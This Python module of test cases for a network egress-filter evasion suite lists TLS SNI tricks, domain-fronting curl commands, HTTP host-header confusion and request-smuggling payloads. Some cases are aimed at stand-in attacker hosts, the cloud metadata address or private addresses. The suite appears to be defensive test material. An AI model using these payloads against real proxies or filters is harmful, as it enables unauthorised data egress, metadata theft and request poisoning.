# SPDX-License-Identifier: Apache-2.0
"""Connections to servers that may be reached, in the name of others: hellos of TLS and requests of HTTP that say one thing and mean another."""
from evasion.case import ADDRESS, BLIND, ECH, GULLIBLE, HTTP, MATCH, RULES, Case, off
from internet import places

GOOD4, GOOD6, EVIL4, EVIL6 = places.v4(places.GOOD), places.v6(places.GOOD), places.v4(places.EVIL), places.v6(places.EVIL)
LEARN = "getent ahosts good.test >/dev/null; "  # so that the address is known for the name's

# --- TLS ---

HELLOS = {
    "no-extension": "bare", "no-name": "old", "no-name-13": "alpn=http/1.1", "other-name": "sni=evil.test", "other-upper": "sni=EVIL.TEST",
    "other-dot": "sni=evil.test.", "denied-name": "sni=blocked.ok.test",
    "ech": "sni=good.test ech", "ech-other": "sni=evil.test ech", "esni": "esni", "two-names": "sni=good.test sni=evil.test",
    "two-names-turned": "sni=evil.test sni=good.test",
    "two-extensions": "sni=good.test sni2=evil.test", "two-extensions-turned": "sni=evil.test sni2=good.test", "nul": "sni=evil.test\\x00.good.test",
    "nul-end": "sni=good.test\\x00", "nul-suffix": "sni=good.test\\x00.evil.test",
    "space": "sni=good.test\\x20", "newline": "sni=evil.test\\ngood.test", "utf8": "sni=\\xc3\\xa9vil.test", "address": f"sni={EVIL4}",
    "address-good": f"sni={GOOD4}", "address-six": "sni=[::1]", "empty-name": "sni=",
    "long-name": "sni=" + "a" * 300 + ".test", "label-too-long": "sni=" + "a" * 64 + ".good.test", "many-labels": "sni=" + "a." * 130 + "good.test",
    "empty-label": "sni=evil..good.test", "leading-dot": "sni=.good.test",
    "kind": "sni=good.test kind=1", "underscore": "sni=_evil.good.test", "star": "sni=*.ok.test", "port": "sni=good.test:443", "user": "sni=evil@good.test",
    "percent": "sni=evil%00.good.test",
    "segments-1": "sni=evil.test =1", "segments-7": "sni=evil.test =7", "records-1": "sni=evil.test :1", "records-20": "sni=evil.test :20",
    "records-and-segments": "sni=evil.test :33 =5", "huge": "sni=evil.test pad=15000",
    "too-huge": "sni=good.test pad=60000", "grease": "sni=evil.test grease", "old-version": "sni=evil.test old", "early-data": "sni=evil.test early",
    "tail": "sni=good.test tail", "alert-first": "sni=evil.test alert",
    "empty-record": "sni=good.test empty", "message-twice": "sni=good.test twice", "ssl2": "ssl2", "record-version": "sni=good.test version=0505",
    "length-more": "sni=good.test length=9", "h2": "sni=evil.test alpn=h2",
    "acme": "sni=evil.test alpn=acme-tls/1", "suffix": "sni=evilgood.test", "prefix": "sni=good.test.evil.test", "parent": "sni=ok.test",
    "punycode": "sni=xn--evl-0ma.test",
}
# Where the name is one that may be reached, nothing at all may arrive; else nothing in another's name.
TLS = [
    *[Case(f"hello-{n}", "E6", f"{LEARN}{{K}} tls {GOOD4} 443 {w}", off(GULLIBLE, ECH) if w.endswith(("ech", "esni")) else GULLIBLE, judge="unconnected")
      for n, w in HELLOS.items()],
    *[Case(f"hello-six-{n}", "E6", f"{LEARN}{{K}} tls {GOOD6} 443 {HELLOS[n]}", off(GULLIBLE, ECH), judge="unconnected")
      for n in ("no-name", "other-name", "ech", "nul", "segments-1", "records-1")],
    *[Case(f"hello-at-evil-{n}", "E4", f"{{K}} tls {a} 443 {w}", BLIND, judge="stray")
      for n, a, w in (("own", EVIL4, "sni=evil.test"), ("none", EVIL4, "old"), ("allowed", EVIL4, "sni=good.test"), ("allowed-six", EVIL6, "sni=good.test"),
                      ("allowed-upper", EVIL4, "sni=GOOD.test"),
                      ("allowed-wildcard", EVIL4, "sni=four.ok.test"), ("metadata", "169.254.169.254", "sni=good.test"), ("private", "10.0.0.5", "sni=good.test"))],
    Case("hello-on-plain-port", "E6", "{K} tls good.test 80 sni=evil.test", GULLIBLE, judge="unconnected"),
    Case("hello-on-odd-port", "E6", "{K} tls good.test 9999 sni=evil.test", GULLIBLE, judge="unconnected"),
    Case("openssl-other", "E4", "openssl s_client -connect good.test:443 -servername evil.test </dev/null", GULLIBLE, judge="unconnected"),
    Case("openssl-none", "E6", "openssl s_client -connect good.test:443 -noservername </dev/null", GULLIBLE, judge="unconnected"),
    Case("curl-fronting", "E5", "curl -skS -m 3 --connect-to evil.test:443:good.test:443 https://evil.test/{canary}", GULLIBLE, judge="unconnected"),
    Case("curl-resolve-fronting", "E5", f"{LEARN}curl -skS -m 3 --resolve evil.test:443:{GOOD4} https://evil.test/{{canary}}", GULLIBLE, judge="unconnected"),
    Case("curl-resolve-to-evil", "E4", f"curl -skS -m 3 --resolve good.test:443:{EVIL4} https://good.test/{{canary}}", MATCH, judge="stray"),
    Case("curl-resolve-to-metadata", "E4", "curl -sS -m 3 --resolve good.test:80:169.254.169.254 http://good.test/latest", off(MATCH, ADDRESS), judge="stray"),
    Case("curl-host-at-evil", "E4", f"curl -sS -m 3 -H 'Host: good.test' http://{EVIL4}/{{canary}}", MATCH, judge="stray"),
    Case("plain-on-tls-port", "E6", "{K} tcp good.test 443 'GET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'", off(GULLIBLE, HTTP), judge="stray"),
]

# --- HTTP ---

END = "\\r\\n\\r\\n"
# The head of one request that speaks of another host than the one it was dialled for, or of none.
HEADS = {
    "other-host": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test", "denied-host": "GET /{canary} HTTP/1.1\\r\\nHost: blocked.ok.test",
    "no-host": "GET /{canary} HTTP/1.1\\r\\nAccept: x", "no-host-10": "GET /{canary} HTTP/1.0\\r\\nAccept: x",
    "empty-host": "GET /{canary} HTTP/1.1\\r\\nHost:", "two-hosts": "GET /{canary} HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test",
    "two-hosts-turned": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\nHost: good.test",
    "same-host-twice": "GET /{canary} HTTP/1.1\\r\\nHost: good.test\\r\\nHost: good.test", "host-list": "GET /{canary} HTTP/1.1\\r\\nHost: good.test, evil.test",
    "host-user": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test@good.test",
    "host-nul": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test\\x00.good.test", "host-folded": "GET /{canary} HTTP/1.1\\r\\nHost:\\r\\n evil.test",
    "host-folded-after": "GET /{canary} HTTP/1.1\\r\\nHost: good.test\\r\\n .evil.test",
    "host-space": "GET /{canary} HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: good.test", "host-tab": "GET /{canary} HTTP/1.1\\r\\nHost:\\tevil.test",
    "host-bare-lf": "GET /{canary} HTTP/1.1\\nHost: evil.test",
    "host-bare-cr": "GET /{canary} HTTP/1.1\\r\\nHost: good.test\\rHost: evil.test", "host-port": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test:80",
    "host-bad-port": "GET /{canary} HTTP/1.1\\r\\nHost: good.test:80x",
    "host-address": "GET /{canary} HTTP/1.1\\r\\nHost: " + EVIL4, "host-slash": "GET /{canary} HTTP/1.1\\r\\nHost: good.test/evil.test",
    "host-underscore": "GET /{canary} HTTP/1.1\\r\\nHost: evil_x.good.test",
    "host-empty-label": "GET /{canary} HTTP/1.1\\r\\nHost: evil..good.test", "host-upper": "GET /{canary} HTTP/1.1\\r\\nHOST: EVIL.TEST",
    "absolute": "GET http://evil.test/{canary} HTTP/1.1\\r\\nHost: good.test",
    "absolute-host": "GET http://good.test/{canary} HTTP/1.1\\r\\nHost: evil.test", "absolute-tls": "GET https://evil.test/{canary} HTTP/1.1\\r\\nHost: good.test",
    "absolute-user": "GET http://good.test@evil.test/{canary} HTTP/1.1\\r\\nHost: good.test",
    "scheme-less": "GET //evil.test/{canary} HTTP/1.1\\r\\nHost: evil.test", "connect": "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443",
    "connect-good-host": "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test",
    "connect-smtp": "CONNECT evil.test:25 HTTP/1.1\\r\\nHost: good.test", "connect-metadata": "CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: good.test",
    "old-version": "GET /{canary}", "version-2": "GET /{canary} HTTP/2.0\\r\\nHost: evil.test",
    "version-odd": "GET /{canary} HTTP/1.10\\r\\nHost: evil.test", "leading-space": " GET /{canary} HTTP/1.1\\r\\nHost: evil.test",
    "leading-lines": "\\r\\n\\r\\nGET /{canary} HTTP/1.1\\r\\nHost: evil.test", "method-odd": "EVIL /{canary} HTTP/1.1\\r\\nHost: evil.test",
    "method-lower": "get /{canary} HTTP/1.1\\r\\nHost: evil.test", "tabs": "GET\\t/{canary}\\tHTTP/1.1\\r\\nHost: evil.test",
    "header-first": "GET /{canary} HTTP/1.1\\r\\n Host: good.test\\r\\nHost: evil.test",
    "colon-less": "GET /{canary} HTTP/1.1\\r\\nHost evil.test\\r\\nHost: good.test",
    "proxy-1": "PROXY TCP4 1.2.3.4 5.6.7.8 1 2\\r\\nGET /{canary} HTTP/1.1\\r\\nHost: good.test",
    "proxy-2": "\\x0d\\x0a\\x0d\\x0a\\x00\\x0d\\x0aQUIT\\x0a\\x21\\x11\\x00\\x0c" + "\\x01" * 12 + "GET /{canary} HTTP/1.1\\r\\nHost: good.test",
    "h2": "PRI * HTTP/2.0\\r\\n\\r\\nSM", "high-byte": "GET /{canary} HTTP/1.1\\r\\nHost: ev\\xeel.test",
    "long-host": "GET /{canary} HTTP/1.1\\r\\nHost: " + "a" * 300 + ".good.test", "many-headers": "GET /{canary} HTTP/1.1\\r\\nHost: evil.test" + "\\r\\nX: y" * 200,
}
FIRST = "GET /first HTTP/1.1\\r\\nHost: good.test\\r\\n"
NEXT = "GET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
# A first request that is fine, with something behind it that a careless reader takes for a second one. The port says how its server reads.
SMUGGLED = {
    "second": (8001, f"{FIRST}\\r\\n{NEXT}"), "second-absolute": (8001, FIRST + "\\r\\nGET http://evil.test/{canary} HTTP/1.1\\r\\nHost: good.test" + END),
    "cl-te": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-cl": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n65\\r\\n{NEXT}0\\r\\n\\r\\n"),
    "te-space": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-tab": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding:\\tchunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-folded": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding:\\r\\n chunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-list": (8001,
                f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: identity, chunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-quoted": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-twice": (8001,
                 f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: identity\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 200\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "te-in-10": (8001,
                 f"POST /first HTTP/1.0\\r\\nHost: good.test\\r\\nConnection: keep-alive\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{NEXT}"),
    "cl-twice": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 90\\r\\n\\r\\n{NEXT}"),
    "cl-list": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0, 90\\r\\n\\r\\n{NEXT}"),
    "cl-plus": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: +0\\r\\n\\r\\n{NEXT}"),
    "cl-space": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0 90\\r\\n\\r\\n{NEXT}"),
    "cl-hex": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0x50\\r\\n\\r\\n{NEXT}"),
    "cl-folded": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nX: y\\r\\n Content-Length: 90\\r\\n\\r\\n{NEXT}"),
    "cl-minus": (8000, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: -1\\r\\n\\r\\n{NEXT}"),
    "get-body": (8000, f"GET /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nX: y\\r\\n\\r\\n{NEXT}"),
    "chunk-extension": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0;a=b\\r\\n\\r\\n{NEXT}"),
    "chunk-lf": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\n\\n{NEXT}"),
    "chunk-hex": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0x0\\r\\n\\r\\n{NEXT}"),
    "chunk-space": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0 \\r\\n\\r\\n{NEXT}"),
    "chunk-long-zero": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0000000000000000000\\r\\n\\r\\n{NEXT}"),
    "trailer": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nHost: evil.test\\r\\n\\r\\n{NEXT}"),
    "head-lf": (8001, f"GET /first HTTP/1.1\\r\\nHost: good.test\\r\\nX: y\\n\\n{NEXT}"),
    "expect": (8001, f"POST /first HTTP/1.1\\r\\nHost: good.test\\r\\nExpect: 100-continue\\r\\nContent-Length: 0\\r\\n\\r\\n{NEXT}"),
    "upgrade": (8001,
                f"GET /first HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n\\r\\n{NEXT}"),
    "websocket": (8001,
                  f"GET /first HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n{NEXT}"),
    "head-method": (8001, f"HEAD /first HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\n\\r\\n{NEXT}"),
    "options-star": (8001, f"OPTIONS * HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n{NEXT}"),
    "connect-then": (8001, f"CONNECT good.test:80 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n{NEXT}"),
}
REQUESTS = [
    *[Case(f"head-{n}", "E5", f"{{K}} tcp good.test 80 '{h}{END}'", off(GULLIBLE, HTTP), judge="unconnected") for n, h in HEADS.items()],
    *[Case(f"smuggle-{n}", "E9", f"{{K}} tcp good.test {p} '{text}'", off(GULLIBLE, HTTP), judge="smuggled", audit=n != "websocket")
      for n, (p, text) in SMUGGLED.items()],
    *[Case(f"later-{n}", "E5", f"{{K}} then good.test 80 '{FIRST}\\r\\n' '{HEADS[n]}{END}'", off(GULLIBLE, HTTP), judge="smuggled")
      for n in ("other-host", "denied-host", "no-host", "two-hosts", "host-folded", "host-user", "absolute", "absolute-user", "host-bare-lf", "host-address",
                "host-upper")],
    *[Case(f"split-{n}", "E5", f"{{K}} tcp good.test 80 {w}", off(GULLIBLE, HTTP), judge="unconnected")
      for n, w in (("words", "'GET ' '/{canary} ' 'HTTP/1.1\\r\\n' 'Host: ' 'evil' '.test\\r\\n\\r\\n'"),
                   ("host", "'GET /{canary} HTTP/1.1\\r\\nHost: good.test' '.evil.test\\r\\n\\r\\n'"), ("line",
                    "'GET /{canary} HTTP/1.1\\r' '\\nHost: evil.test\\r\\n\\r\\n'"),
                   ("first-byte", "'G' 'ET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"))],
    Case("proxy-variable", "E1", f"http_proxy=http://{EVIL4}:3128 curl -sS -m 3 http://good.test/{{canary}}", MATCH, judge="unconnected"),
    Case("proxy-variable-tls", "E1", f"https_proxy=http://{EVIL4}:3128 curl -sS -m 3 https://good.test/{{canary}}", GULLIBLE, judge="unconnected"),
    Case("proxy-socks", "E1", f"curl -sS -m 3 -x socks5h://{EVIL4}:1080 http://evil.test/", RULES),
    Case("proxy-socks4", "E1", f"curl -sS -m 3 -x socks4a://{EVIL4}:9050 http://evil.test/", RULES),
    Case("proxy-good", "E8", "curl -sS -m 3 -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
    Case("proxy-good-tunnel", "E8", "curl -sS -m 3 -p -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
    Case("http2-prior", "E5", "curl -sS -m 3 --http2-prior-knowledge http://good.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
    Case("host-header-curl", "E5", "curl -sS -m 3 -H 'Host: evil.test' http://good.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
    Case("host-header-wget", "E5", "wget -q -T 3 -t 1 -O- --header='Host: evil.test' http://good.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected",
         needs="wget"),
]

CASES = [*TLS, *REQUESTS]
